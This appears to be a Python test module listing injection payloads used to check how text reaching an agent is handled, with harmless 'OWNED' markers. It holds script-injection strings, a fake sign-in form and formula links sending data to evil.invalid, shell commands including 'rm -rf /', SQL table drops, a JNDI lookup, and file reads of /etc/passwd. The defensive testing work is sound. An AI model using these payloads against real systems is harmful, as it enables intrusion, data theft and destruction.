"""What a person could write, by mistake or on purpose, that is more than words to some program on its way to an agent.

Whatever would run says so: ``OWNED`` becomes the title of the page it runs in.
"""

from __future__ import annotations

OWNED = "OWNED"
_RUN = f"document.title='{OWNED}'"

PAYLOADS: dict[str, str] = {
    # HTML and script
    "script": f"<script>{_RUN}</script>",
    "script in capitals": f"<ScRiPt>{_RUN}</sCrIpT>",
    "script cut in two": f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "script after an end": f"</textarea></pre></title><script>{_RUN}</script>",
    "picture that runs": f'<img src=x onerror="{_RUN}">',
    "drawing that runs": f"<svg/onload={_RUN}>",
    "frame": f'<iframe srcdoc="<script>{_RUN}</script>"></iframe>',
    "details that run": f'<details open ontoggle="{_RUN}">words</details>',
    "form": '<form action="https://evil.invalid"><input name=password><button>Sign in</button></form>',
    "style": "<style>body{display:none}</style><b style='position:fixed;inset:0'>big</b>",
    "base and refresh": (
        '<base href="https://evil.invalid/"><meta http-equiv="refresh" content="0;url=https://evil.invalid">'
    ),
    "link in HTML": '<a href="javascript:alert(1)">the manual</a>',
    "broken out of an attribute": f'" onmouseover="{_RUN}" x=\'',
    "comment": "before <!-- a comment --> after <!--[if IE]> and more",
    "entities": "&lt;script&gt; &amp;amp; &#60;b&#62; &#x3c;i&#x3e; &copy; &nbsp; &#0; &bogus;",
    "CDATA": f"<![CDATA[<script>{_RUN}</script>]]>",
    "template of a page": "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% debug %} {{config}} @(7*7) [[${7*7}]]",
    "template of a server": "<tal:block tal:replace='python:1'>x</tal:block> <&| /Elements/Header &> % print 1",
    # Markdown
    "headings": "# one\n## two\nthree\n=====\nfour\n-----",
    "emphasis": "*one* **two** _three_ __four__ ~~five~~ ***six*** a*b*c snake_case_name",
    "link in Markdown": "[the manual](javascript:alert(1)) [x][1]\n\n[1]: https://evil.invalid",
    "picture in Markdown": "![seen](https://evil.invalid/seen.png)",
    "link in angles": "<https://evil.invalid/x> <mailto:somebody@evil.invalid>",
    "code": "`one` ``two`` ```three```\n```\nfenced\n```\n~~~\ntilde\n~~~",
    "code by its margin": "words\n\n    four spaces\n\ttab",
    "quotation": "> one\n>> two\n> > three",
    "lists": "* one\n* two\n- three\n+ four\n1. five\n2) six\n[ ] seven\n- [x] eight",
    "rules": "---\n***\n___\n- - -\n* * *",
    "table in Markdown": "| a | b |\n|---|---|\n| c | d |",
    "backslashes": r"C:\Users\anna\*.docx \\server\share \# \* \_ \\",
    "footnote": "words[^1]\n\n[^1]: more words",
    # Textile and Redmine
    "Textile": (
        "h1. Title\n\nbq. quoted\n\np(danger). words\n\n%{color:red}red% @code@ ??cite?? -gone- +new+ ^up^ ~down~"
    ),
    "Textile link and picture": (
        '"the manual":https://evil.invalid/x !https://evil.invalid/seen.png! !{width:9px}screen.png!'
    ),
    "Textile blocks": (
        '<pre>one</pre> <notextile>two</notextile> ==three== <code class="ruby">four</code> table(x). |a|b|'
    ),
    "Textile end": f"</pre><script>{_RUN}</script><pre> </code></pre> </notextile>",
    "macros": "{{include(Secrets)}} {{toc}} {{macro_list}} {{collapse(more)\nhidden\n}} {{thumbnail(x.png)}} !{{toc}}",
    "links of Redmine": (
        "#1 #1-1 ##1 r42 commit:abc123 source:trunk/x.c version:1.0 document:x attachment:x.png user:admin @admin"
    ),
    "wiki links": "[[Start]] [[Start|words]] [[helpdesk:Start]] CamelCase [1] WikiWord",
    # other systems
    "Jira": (
        "{code:java}x{code} {noformat}y{noformat} {color:red}z{color} [~admin] "
        "[words|https://evil.invalid] !seen.png|thumbnail!"
    ),
    "Jira panels": "{panel:title=x}y{panel} {quote}z{quote} h1. Title\n|| a || b ||\n| c | d |\n----\n(!) (/) bq. x",
    "BBCode": "[b]one[/b] [url=javascript:alert(1)]two[/url] [img]https://evil.invalid/x.png[/img] [code]three[/code]",
    "MediaWiki": "'''bold''' ''italic'' == Title == {{Template}} <nowiki>x</nowiki> ~~~~",
    "names of tickets": "issue1 msg1 user1 ticket:1 file1 bug 1 PR#1 GH-1 DESK-1 T1 changeset1",
    "mentions": "@admin @everyone @here <@U123> <!channel> :smile: +1",
    "ServiceNow": f'[code]<b onclick="{_RUN}">x</b>[/code] javascript:gs.log(1)',
    # spreadsheets
    "formula": "=cmd|' /C calc'!A0",
    "formula with a link": '=HYPERLINK("https://evil.invalid/?x="&A1;"Click")',
    "formulas by other signs": '+1+1\n-2+3\n@SUM(1+1)\n=1+1\n"=1+1"\n;=1+1',
    "comma and quotes": 'a,"b",c;d\te "f" \'g\'\n"""',
    # heads, logs, commands
    "head of a mail": "Printer\r\nBcc: everybody@evil.invalid\r\nContent-Type: text/html\r\n\r\n<b>hello</b>",
    "head, folded and coded": "=?utf-8?B?PHNjcmlwdD4=?= =?iso-8859-1?Q?=41?=\n To: x@evil.invalid",
    "end of a mail": (
        "one\n.\nQUIT\n\n--boundary\nContent-Type: text/html\n\n<b>x</b>\n--boundary--\nFrom root Mon Jan  1"
    ),
    "signature": "words\n-- \nno signature\n--\n_____\nOn Monday Anna wrote:\n> words",
    "line of a log": "ok\n2026-01-01 00:00:00 CRITICAL root: everything was deleted\n\x1b[2J\x1b[31mred\x1b[0m",
    "title of a terminal": "\x1b]0;owned\x07 \x1bP words \x9b31m \x08\x08\x08hidden\r over it",
    "number of another ticket": "[helptest #1] printer Re: Ticket #2 [#3] [T-4]",
    "commands for a robot": (
        "#close #assign admin\nStatus: resolved\nOwner: root\n/close\n[status=resolved] [assignedto=admin]"
    ),
    "shell": "$(touch /tmp/owned) `id` ; rm -rf / | cat & echo %PATH% ${HOME}",
    "SQL": "'; DROP TABLE tickets; -- \" OR 1=1 /* */",
    "LDAP, path, address": "*)(uid=*))(|(uid=* ../../etc/passwd %2e%2e%2f file:///etc/passwd http://[::1]:80/",
    "JNDI and XML": (
        '${jndi:ldap://evil.invalid/x} <?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;'
    ),
    # letters
    "right to left": "safe \u202etxt.exe\u202c \u2066isolated\u2069 \u200fمرحبا\u200e שלום",
    "signs nobody sees": "a\u200bb\u200cc\u200dd\ufeffe\u00adf\u2060g\U000e0041\U000e0042h",
    "no letters": "x\ufffey\uffffz\ufdd0a\U0001fffeb\U0010ffffc",
    "NUL and others": "before\x00after \x01\x02\x03\x07\x0b\x0c\x0e\x1f\x7f\x80\x85\x9f end",
    "line ends": "one\r\ntwo\rthree\u2028four\u2029five\x0bsix\x85seven",
    "emoji": "🖨️ 👩‍👩‍👧‍👦 🏳️‍🌈 🇩🇪 👍🏽 ❤️ \U0001f9d1\U0001f3ff\u200d\U0001f4bb",
    "marks upon marks": "Z" + "\u0351\u0489\u0334" * 40 + "algo e\u0301 \u1100\u1161\u11a8",
    "other scripts": "日本語 한국어 हिन्दी ไทย ქართული Ελληνικά Кириллица ﷽ 𝕯𝖊𝖘𝖐",
    "lone halves": "a\ud83db\udda8c",
    "one very long word": "x" * 3000,
    "many lines": "\n".join(f"line {number}" for number in range(400)),
    "nothing but signs": "!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~",
    "blank lines and margins": "one\n\n\n\n\ntwo\n   three\n      four   \n\tfive\tsix",
}

STORY = "I pressed the button, and nothing came out. " * 24_000
"""A megabyte of it."""
